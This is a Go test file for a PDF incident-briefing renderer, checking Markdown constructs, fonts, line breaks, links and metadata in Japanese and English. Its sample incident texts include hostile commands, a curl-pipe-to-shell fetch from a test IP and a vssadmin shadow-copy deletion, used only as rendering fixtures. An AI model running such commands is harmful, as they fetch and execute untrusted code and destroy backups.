package build

import (
	"bytes"
	"context"
	"math/rand"
	"unicode/utf8"

	"briefing/briefing/markdown"
	"encoding/xml"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"briefing/internal/testkit"
)

// A text as a reader sees it in the PDF: the lines pdftotext -layout
// gives, and each character with the font MuPDF says it is drawn in.
type seen struct {
	lines []string // runs of spaces made one, ends trimmed, empty lines dropped
	raw   string   // pdftotext -layout as it is
	chars []char
	pdf   []byte
	path  string // the PDF file
}

type char struct {
	c     string
	font  string
	slant bool    // the glyph's box leans: drawn obliqued
	x, x1 float64 // left and right edge
	size  float64
}

// renderText renders a format-2 incident whose summary in lang is text
// (extra is TOML added at the end: references) and reads it back.
func renderText(t *testing.T, lang, text, extra string) seen {
	t.Helper()
	src := "format = 2\nid = \"case\"\ndate = 2024-03-08\ntitle = \"T\"\nlanguages = [\"" + lang + "\"]\n" +
		"summary." + lang + " = '''\n" + text + "'''\n" + extra
	dir := t.TempDir()
	path := filepath.Join(dir, "case.toml")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	inc, _, ds := Incident(path)
	if ds.HasErrors() {
		t.Fatalf("refused: %v", ds)
	}
	pages, ds := Briefing(inc, lang, testTheme(t), false)
	if ds.HasErrors() {
		t.Fatalf("not composed: %v", ds)
	}
	var b bytes.Buffer
	if err := PDF(&b, pages, inc, lang, testTheme(t)); err != nil {
		t.Fatal(err)
	}
	pdf := filepath.Join(dir, "case.pdf")
	if err := os.WriteFile(pdf, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	var s seen
	s.pdf, s.path = b.Bytes(), pdf
	s.raw = testkit.Run(t, "pdftotext", "-layout", pdf, "-")
	spaces := regexp.MustCompile(` +`)
	for _, l := range strings.Split(s.raw, "\n") {
		if l = strings.TrimSpace(spaces.ReplaceAllString(l, " ")); l != "" {
			s.lines = append(s.lines, l)
		}
	}
	// The glyphs drawn, without the spaces MuPDF adds where glyphs stand
	// apart (a justified line, the space between Japanese and Latin text).
	st := filepath.Join(dir, "case.stext")
	testkit.Run(t, "mutool", "convert", "-F", "stext", "-O", "inhibit-spaces", "-o", st, pdf)
	x, err := os.ReadFile(st)
	if err != nil {
		t.Fatal(err)
	}
	s.chars = stext(t, string(x))
	return s
}

// stext reads MuPDF's structured text: every character with its font.
func stext(t *testing.T, x string) []char {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(x))
	d.Strict = false // MuPDF writes a path with & as it is
	var out []char
	font, size := "", 0.0
	for {
		tok, err := d.Token()
		if err != nil {
			break
		}
		se, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		switch se.Name.Local {
		case "font":
			for _, a := range se.Attr {
				switch a.Name.Local {
				case "name":
					font = a.Value
				case "size":
					size, _ = strconv.ParseFloat(a.Value, 64)
				}
			}
		case "char":
			c := char{font: font, size: size}
			for _, a := range se.Attr {
				switch a.Name.Local {
				case "c":
					c.c = a.Value
				case "x":
					c.x, _ = strconv.ParseFloat(a.Value, 64)
				case "quad":
					q := strings.Fields(a.Value)
					if len(q) == 8 {
						ulx, _ := strconv.ParseFloat(q[0], 64)
						llx, _ := strconv.ParseFloat(q[4], 64)
						c.slant = ulx-llx > 0.5
						c.x1, _ = strconv.ParseFloat(q[6], 64)
					}
				}
			}
			out = append(out, c)
		}
	}
	if len(out) == 0 {
		t.Fatal("mutool found no text")
	}
	return out
}

// fontOf returns the fonts the characters of word are drawn in, where the
// page's text holds word.
func (s seen) fontOf(t *testing.T, word string) (fonts []string, slant bool) {
	t.Helper()
	var all strings.Builder
	var idx []int
	for i, c := range s.chars {
		if c.c == " " {
			continue
		}
		for range c.c {
			idx = append(idx, i)
		}
		all.WriteString(c.c)
	}
	w := strings.ReplaceAll(word, " ", "")
	k := strings.Index(all.String(), w)
	if k < 0 {
		t.Fatalf("%q is not on the page: %s", word, all.String())
	}
	r0 := len([]rune(all.String()[:k]))
	seenFont := map[string]bool{}
	slant = true
	for i := r0; i < r0+len([]rune(w)); i++ {
		c := s.chars[idx[i]]
		if !seenFont[c.font] {
			seenFont[c.font] = true
			fonts = append(fonts, c.font)
		}
		slant = slant && c.slant
	}
	return fonts, slant
}

// inOrder checks that each of want is found in a line, each in a line at
// or after the previous one's.
func (s seen) inOrder(t *testing.T, want ...string) {
	t.Helper()
	i := 0
	for _, w := range want {
		for i < len(s.lines) && !strings.Contains(s.lines[i], w) {
			i++
		}
		if i == len(s.lines) {
			t.Errorf("%q not found in order in:\n%s", w, strings.Join(s.lines, "\n"))
			return
		}
	}
}

// TestMarkupConstructs renders each construct of a format-2 text in
// Japanese and English and checks what a reader sees: the lines and their
// order, no tokens glued together, nothing lost, and the font of each run.
func TestMarkupConstructs(t *testing.T) {
	testkit.Tool(t, "pdftotext")
	testkit.Tool(t, "mutool")
	const refs = "\n[[references]]\nid = \"ref1\"\ntitle = \"Advisory\"\n"
	type check func(t *testing.T, s seen)
	font := func(word, want string) check {
		return func(t *testing.T, s seen) {
			fs, _ := s.fontOf(t, word)
			if len(fs) != 1 || fs[0] != want {
				t.Errorf("%q is drawn in %v, want %s", word, fs, want)
			}
		}
	}
	order := func(want ...string) check { return func(t *testing.T, s seen) { s.inOrder(t, want...) } }
	absent := func(bad ...string) check {
		return func(t *testing.T, s seen) {
			for _, b := range bad {
				if strings.Contains(strings.Join(s.lines, "\n"), b) {
					t.Errorf("%q on the page:\n%s", b, strings.Join(s.lines, "\n"))
				}
			}
		}
	}
	slanted := func(word string, want bool) check {
		return func(t *testing.T, s seen) {
			if _, sl := s.fontOf(t, word); sl != want {
				t.Errorf("%q obliqued %v, want %v", word, sl, want)
			}
		}
	}
	link := func(url string) check {
		return func(t *testing.T, s seen) {
			if !bytes.Contains(s.pdf, []byte("/URI ("+url+")")) {
				t.Errorf("no link to %s", url)
			}
		}
	}
	noLink := func(url string) check {
		return func(t *testing.T, s seen) {
			if bytes.Contains(s.pdf, []byte("/URI ("+url+")")) {
				t.Errorf("a link to %s", url)
			}
		}
	}
	subsets := func(want ...string) check {
		return func(t *testing.T, s seen) {
			out := testkit.Run(t, "pdffonts", s.path)
			for _, w := range want {
				re := regexp.MustCompile(`(?m)^[A-Z]{6}\+` + w + `\s.*\byes\s+yes\s`)
				if !re.MatchString(out) {
					t.Errorf("no embedded subset of %s:\n%s", w, out)
				}
			}
		}
	}
	const (
		reg   = "BIZUDPGothic-Regular"
		bold  = "BIZUDPGothic-Bold"
		mono  = "BIZUDGothic-Regular"
		monoB = "BIZUDGothic-Bold"
	)
	tests := []struct {
		name, lang, text string
		checks           []check
	}{
		{"soft breaks ja", "ja", "通信先:\n203.0.113.10\n198.51.100.7\n検知製品は Microsoft\nDefender である。\n検知\nした。\n",
			[]check{order("通信先: 203.0.113.10 198.51.100.7 検知製品は Microsoft Defender である。検知した。"), absent("203.0.113.10198", "MicrosoftDefender", "検知 した")}},
		{"soft breaks en", "en", "Contacted:\n203.0.113.10\n198.51.100.7\ndetected by Microsoft\nDefender.\n",
			[]check{order("Contacted: 203.0.113.10 198.51.100.7 detected by Microsoft Defender."), absent("203.0.113.10198", "MicrosoftDefender")}},
		{"hard breaks ja", "ja", "一行目\\\n二行目  \n三行目\n",
			[]check{order("一行目", "二行目", "三行目"), absent("一行目二行目", "二行目三行目")}},
		{"hard breaks en", "en", "first\\\nsecond  \nthird\n",
			[]check{order("first", "second", "third"), absent("first second", "second third")}},
		{"nested bullets ja", "ja", "- 一\n  - 二\n    - 三\n      - 四\n- 五\n",
			[]check{order("•一", "◦二", "–三", "•四", "•五")}},
		{"nested bullets en", "en", "* one\n  * two\n    * three\n* four\n",
			[]check{order("• one", "◦ two", "– three", "• four")}},
		{"ordered list keeps its start ja", "ja", "3. 隔離した\n4. 調査した\n   1) ログを保全\n   2) 解析\n5. 復旧した\n",
			[]check{order("3. 隔離した", "4. 調査した", "1. ログを保全", "2. 解析", "5. 復旧した")}},
		{"ordered list keeps its start en", "en", "7) isolate\n8) investigate\n",
			[]check{order("7. isolate", "8. investigate")}},
		{"strong ja", "ja", "経営層は**この一文**を読む。\n",
			[]check{order("経営層はこの一文を読む。"), font("この一文", bold), font("経営層は", reg), subsets(reg, bold)}},
		{"strong en", "en", "Executives **must read this**.\n",
			[]check{order("Executives must read this."), font("must read this", bold), font("Executives", reg)}},
		{"emphasis ja as 傍点", "ja", "これは*重要*である。\n",
			[]check{order("これは重要である。"), font("重要", reg), slanted("重要", false), absent("*")}},
		{"emphasis en obliqued", "en", "This is *important* now.\n",
			[]check{order("This is important now."), font("important", reg), slanted("important", true), slanted("This", false)}},
		{"strike ja", "ja", "~~誤報~~ではない。\n", []check{order("誤報ではない。"), absent("~")}},
		{"strike en", "en", "It was ~~not~~ confirmed.\n", []check{order("It was not confirmed."), absent("~")}},
		{"code span ja", "ja", "`cmd.exe /c whoami` を実行した。\n",
			[]check{order("cmd.exe /c whoami を実行した。"), font("cmd.exe", mono), font("を実行した。", reg), subsets(reg, mono)}},
		{"code span in strong en", "en", "Ran **`whoami`** twice.\n",
			[]check{order("Ran whoami twice."), font("whoami", monoB), subsets(reg, monoB)}},
		{"code block ja", "ja", "ログ:\n\n```\nC:\\> vssadmin delete shadows /all /quiet\n    字下げ 日本語\n2024-03-04T01:02:03Z 203.0.113.10 GET /cgi-bin/x?" + strings.Repeat("a", 120) + "END\n```\n",
			[]check{order("ログ:", "C:\\> vssadmin delete shadows /all /quiet", "字下げ 日本語", "2024-03-04T01:02:03Z 203.0.113.10 GET /cgi-bin/x?aaa", "aEND"),
				font("vssadmin", mono), font("字下げ", mono), lostNothing("/cgi-bin/x?" + strings.Repeat("a", 120) + "END"), indented("字下げ", "C:\\>", 4)}},
		{"code block en", "en", "~~~\n$ curl -s http://203.0.113.10/x | sh\n  two spaces\n~~~\n",
			[]check{order("$ curl -s http://203.0.113.10/x | sh", "two spaces"), font("curl", mono), indented("two", "$", 2), noLink("http://203.0.113.10/x")}},
		{"links ja", "ja", "[公式発表](https://example.com/adv)と<https://example.org/x>と https://example.net/y を参照。\n",
			[]check{order("公式発表とhttps://example.org/xと https://example.net/y を参照。"), link("https://example.com/adv"), link("https://example.org/x"), link("https://example.net/y")}},
		{"links en", "en", "See [the advisory](https://example.com/adv), <mailto:soc@example.com> and https://example.net/y.\n",
			[]check{order("See the advisory, mailto:soc@example.com and https://example.net/y."), link("https://example.com/adv"), link("mailto:soc@example.com"), link("https://example.net/y")}},
		{"CVE and ATT&CK IDs ja", "ja", "CVE-2021-30116 と T1195.002 を悪用。`CVE-2020-0001` は例。\n",
			[]check{order("CVE-2021-30116 と T1195.002 を悪用。CVE-2020-0001 は例。"), link("https://www.cve.org/CVERecord?id=CVE-2021-30116"),
				link("https://attack.mitre.org/techniques/T1195/002/"), noLink("https://www.cve.org/CVERecord?id=CVE-2020-0001")}},
		{"CVE and ATT&CK IDs en", "en", "Exploits CVE-2021-30116 (T1190).\n",
			[]check{order("Exploits CVE-2021-30116 (T1190)."), link("https://www.cve.org/CVERecord?id=CVE-2021-30116"), link("https://attack.mitre.org/techniques/T1190/")}},
		{"table ja", "ja", "| ホスト | 台数 | 状態 |\n|---|---|:-:|\n| srv-file-01 | 12 | 暗号化 |\n| pc-042 | 1,024 | 隔離 |\n",
			[]check{order("ホスト 台数 状態", "srv-file-01 12 暗号化", "pc-042 1,024 隔離"), font("ホスト", bold), rightAligned("12", "1,024")}},
		{"table en", "en", "| Host | Files |\n|---|---|\n| srv-file-01 | 12 |\n| pc-042 | 1,024 |\n",
			[]check{order("Host Files", "srv-file-01 12", "pc-042 1,024"), rightAligned("12", "1,024")}},
		{"block quote ja", "ja", "脅迫文:\n\n> 「ファイルは暗号化された。」\n> 連絡せよ。\n", []check{order("脅迫文:", "「ファイルは暗号化された。」連絡せよ。"), absent(">")}},
		{"block quote en", "en", "> Your files are encrypted.\n>\n> Contact us.\n", []check{order("Your files are encrypted.", "Contact us."), absent(">")}},
		{"citation ja", "ja", "公表された[ref1]。\\[ref1] は字義通り。\n", []check{order("公表された（文献1）。[ref1] は字義通り。")}},
		{"citation en", "en", "It was published [ref1].\n", []check{order("It was published [1].")}},
		{"escapes", "en", "\\*not emphasis\\* \\`not code\\` \\# not a heading &amp; AT&T\n", []check{order("*not emphasis* `not code` # not a heading & AT&T"), font("not code", reg)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := renderText(t, tt.lang, tt.text, refs)
			for _, c := range tt.checks {
				c(t, s)
			}
		})
	}
}

// lostNothing checks that the characters of want, a text a code block cut
// into lines, are all on the page in order.
func lostNothing(want string) func(t *testing.T, s seen) {
	return func(t *testing.T, s seen) {
		t.Helper()
		all := strings.ReplaceAll(strings.Join(s.lines, ""), " ", "")
		if !strings.Contains(all, strings.ReplaceAll(want, " ", "")) {
			t.Errorf("%q is not whole on the page:\n%s", want, strings.Join(s.lines, "\n"))
		}
	}
}

// indented checks that the line with word starts n characters right of
// the line with first (spaces of a code block kept).
func indented(word, first string, n int) func(t *testing.T, s seen) {
	return func(t *testing.T, s seen) {
		t.Helper()
		x := func(w string) float64 {
			var all strings.Builder
			var xs []float64
			for _, c := range s.chars {
				for range c.c {
					xs = append(xs, c.x)
				}
				all.WriteString(c.c)
			}
			k := strings.Index(all.String(), w)
			if k < 0 {
				t.Fatalf("%q not on the page", w)
			}
			return xs[len([]rune(all.String()[:k]))]
		}
		// The code face is fixed width: half an em for a space at 9 pt.
		if d := x(word) - x(first); d < float64(n)*4.5-0.5 || d > float64(n)*4.5+0.5 {
			t.Errorf("%q starts %.2f pt right of %q, want %d spaces", word, d, first, n)
		}
	}
}

// rightAligned checks that the cells a and b end at the same x.
func rightAligned(a, b string) func(t *testing.T, s seen) {
	return func(t *testing.T, s seen) {
		t.Helper()
		end := func(w string) float64 {
			for i := range s.chars {
				var got strings.Builder
				j := i
				for j < len(s.chars) && got.Len() < len(w) {
					got.WriteString(s.chars[j].c)
					j++
				}
				// Apart from the characters around it: a space, a gap,
				// or another line.
				apart := func(l, r char) bool { return l.c == " " || r.c == " " || r.x > l.x1+1 || r.x < l.x }
				before := i == 0 || apart(s.chars[i-1], s.chars[i])
				after := j == len(s.chars) || apart(s.chars[j-1], s.chars[j])
				if got.String() == w && before && after {
					return s.chars[j-1].x1
				}
			}
			t.Fatalf("%q not on the page alone", w)
			return 0
		}
		if ea, eb := end(a), end(b); ea-eb > 0.5 || eb-ea > 0.5 {
			t.Errorf("%q ends at %.2f pt, %q at %.2f pt: not right-aligned", a, ea, b, eb)
		}
	}
}

// TestSoftBreaksRendered is the line-joining rule read back from the PDF:
// for random short texts mixing CJK, Latin, digits and punctuation split
// at random soft line breaks, the body text drawn is the source with each
// break replaced by nothing between two CJK characters and by a space
// otherwise.
func TestSoftBreaksRendered(t *testing.T) {
	testkit.Tool(t, "mutool")
	r := rand.New(rand.NewSource(7))
	cjk := []rune("通信先検知製品日本語攻撃者暗号化ひらがなカタカナ")
	other := []rune("abcXYZ0123456789,.:;?/%")
	for i := 0; i < 16; i++ {
		lang := []string{"ja", "en"}[i%2]
		var lines []string
		for n := 2 + r.Intn(4); n > 0; n-- {
			var b strings.Builder
			for k := 1 + r.Intn(5); k > 0; k-- {
				if r.Intn(2) == 0 || b.Len() == 0 {
					if r.Intn(2) == 0 {
						b.WriteRune(cjk[r.Intn(len(cjk))])
					} else {
						b.WriteRune(other[r.Intn(3)])
					}
				} else {
					b.WriteRune(other[r.Intn(len(other))])
				}
			}
			lines = append(lines, b.String())
		}
		want := lines[0]
		for k := 1; k < len(lines); k++ {
			a, _ := utf8.DecodeLastRuneInString(lines[k-1])
			c, _ := utf8.DecodeRuneInString(lines[k])
			if !(markdown.Wide(a) && markdown.Wide(c)) {
				want += " "
			}
			want += lines[k]
		}
		s := renderText(t, lang, strings.Join(lines, "\n")+"\n", "")
		var got strings.Builder
		for _, c := range s.chars {
			if c.size == 10 { // the body text
				got.WriteString(c.c)
			}
		}
		if got.String() != want {
			t.Errorf("%s %q:\ngot  %q\nwant %q", lang, lines, got.String(), want)
		}
	}
}

// TestGlyphErrorPlaces: a character no font has, in a format-2 text, is
// reported at its own line and column in the file — in a paragraph, a list
// item, a table cell, a code block and a link — not at the text's key.
func TestGlyphErrorPlaces(t *testing.T) {
	for _, tt := range []struct{ name, text string }{
		{"paragraph", "first line\nsecond ⟦🔥 line\n"},
		{"list item", "- one\n- two ⟦🔥\n"},
		{"table cell", "| a | b |\n|---|---|\n| x | y⟦🔥 |\n"},
		{"code block", "text\n\n```\nline one\n  ⟦🔥 two\n```\n"},
		{"link text", "see [the ⟦🔥 page](https://example.com/)\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			src := "format = 2\nid = \"case\"\ndate = 2024-03-08\ntitle = \"T\"\nsummary.en = '''\n" + tt.text + "'''\n"
			line, col := 0, 0
			for i, l := range strings.Split(src, "\n") {
				if k := strings.Index(l, "⟦"); k >= 0 {
					line, col = i+1, len([]rune(l[:k]))+1
				}
			}
			src = strings.Replace(src, "⟦", "", 1)
			path := filepath.Join(t.TempDir(), "case.toml")
			if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
				t.Fatal(err)
			}
			inc, _, ds := Incident(path)
			if ds.HasErrors() {
				t.Fatal(ds)
			}
			_, ds = Briefing(inc, "en", testTheme(t), false)
			if len(ds) != 1 || ds[0].Line != line || ds[0].Col != col || ds[0].Key != "summary.en" || !strings.Contains(ds[0].Message, "U+1F525") {
				t.Errorf("got %v, want one error at %d:%d summary.en about U+1F525", ds, line, col)
			}
		})
	}
}

// TestUntranslatedFirstBlock: an untranslated format-2 text is tagged
// whatever block it starts with (code fenced or indented, a list, a
// quote, a table, a list item or quote that starts with code), and the
// tag comes before the text.
func TestUntranslatedFirstBlock(t *testing.T) {
	t.Parallel()
	texts := map[string]string{
		"fenced":      "```\ncode first\n```\n",
		"indented":    "    code first\n",
		"list":        "- code first\n",
		"quote":       "> code first\n",
		"table":       "| code first |\n|---|\n| b |\n",
		"quote code":  ">     code first\n",
		"item code":   "- ```\n  code first\n  ```\n",
		"quote fence": "> ```\n> code first\n> ```\n",
		"paragraph":   "code first\n",
	}
	for name, text := range texts {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			path := writeFile(t, dir, "u.toml", "format = 2\nid = \"u\"\ndate = 2026-11-20\n"+
				"title = { ja = \"表題\", en = \"Title\" }\nsummary = \"x\"\nhandling.ja = '''\n"+text+"'''\n")
			r := File(context.Background(), path, &Options{Dir: filepath.Join(dir, "out"), Theme: testTheme(t), Langs: []string{"en"}})
			if r.Failed() {
				t.Fatalf("failed: %v", r.Diagnostics)
			}
			got := flat(pages(t, filepath.Join(dir, "out", "u.en.pdf")))
			tag, body := strings.Index(got, "[untranslated]"), strings.Index(got, "codefirst")
			if tag < 0 || body < 0 || tag > body {
				t.Errorf("want [untranslated] before the text:\n%s", got)
			}
		})
	}
}

// TestSoftBreakDrawn: a soft line break is joined by what is drawn on
// either side of it: a citation drawn （文献1） in Japanese takes no space
// next to kana, one drawn [1] in English keeps it.
func TestSoftBreakDrawn(t *testing.T) {
	t.Parallel()
	testkit.Tool(t, "pdftotext")
	const refs = "\n[[references]]\nid = \"r1\"\ntitle = \"Advisory\"\n"
	for _, tt := range []struct{ lang, text, want string }{
		{"ja", "参照[r1]\nです。\n", "参照（文献1）です。"},
		{"ja", "次を参照\n[r1]。\n", "次を参照（文献1）。"},
		{"ja", "コードは\n`実行`\nした。\n", "コードは実行した。"},
		{"ja", "詳細は\n<https://example.com/>\nを参照。\n", "詳細は https://example.com/ を参照。"},
		{"en", "see [r1]\nfor more\n", "see [1] for more"},
	} {
		s := renderText(t, tt.lang, tt.text, refs)
		if !strings.Contains(strings.Join(s.lines, "\n"), tt.want) {
			t.Errorf("%s %q: want %q on the page:\n%s", tt.lang, tt.text, tt.want, strings.Join(s.lines, "\n"))
		}
	}
}

// TestMarkdownSubject: the PDF's Subject (document information) is the
// summary's first block as a reader sees it: no markup, a link's text
// kept, citations as drawn, Japanese lines joined without spaces, a table
// reduced to its cells. Read with pdfinfo.
func TestMarkdownSubject(t *testing.T) {
	t.Parallel()
	testkit.Tool(t, "pdfinfo")
	const refs = "\n[[references]]\nid = \"r1\"\ntitle = \"Advisory\"\n"
	for _, tt := range []struct{ lang, text, want string }{
		{"en", "**Important**: the actor moved *laterally*.\nSee [vendor](https://example.com/a) [r1] and `cmd.exe`\\\nnow.\n\nSecond paragraph.\n",
			"Important: the actor moved laterally. See vendor [1] and cmd.exe now."},
		{"ja", "攻撃者は**横展開**した\n（[r1]）。\n詳細は[ベンダー](https://example.com/a)を参照\n[r1]。\n",
			"攻撃者は横展開した（（文献1））。詳細はベンダーを参照（文献1）。"},
		{"en", "| a | b |\n|---|---|\n| 1 | 2 |\n", "a b; 1 2"},
		{"en", "- one\n- *two*\n", "one; two"},
		{"en", "> quoted\n> text\n", "quoted text"},
	} {
		s := renderText(t, tt.lang, tt.text, refs)
		info := testkit.Run(t, "pdfinfo", "-enc", "UTF-8", s.path)
		var got string
		for _, l := range strings.Split(info, "\n") {
			if v, ok := strings.CutPrefix(l, "Subject:"); ok {
				got = strings.TrimSpace(v)
			}
		}
		if got != tt.want {
			t.Errorf("%s %q: Subject %q, want %q", tt.lang, tt.text, got, tt.want)
		}
	}
}

// TestBareLinksJapanese: bare URLs and e-mail addresses written right
// next to Japanese text are links in the PDF (/URI), ending where the
// Japanese text starts.
func TestBareLinksJapanese(t *testing.T) {
	t.Parallel()
	s := renderText(t, "ja", "詳細はhttps://example.com/pathを参照。（https://example.com/b）メールはsoc@example.comまで。\n国際化 https://例え.テスト/パス です。\n", "")
	for _, u := range []string{"https://example.com/path", "https://example.com/b", "mailto:soc@example.com", "https://xn--r8jz45g.xn--zckzah/%E3%83%91%E3%82%B9"} {
		if !bytes.Contains(s.pdf, []byte("/URI ("+u+")")) {
			t.Errorf("no link to %s", u)
		}
	}
	if !strings.Contains(strings.ReplaceAll(strings.Join(s.lines, ""), " ", ""), "https://example.com/pathを参照") {
		t.Errorf("text changed:\n%s", strings.Join(s.lines, "\n"))
	}
}
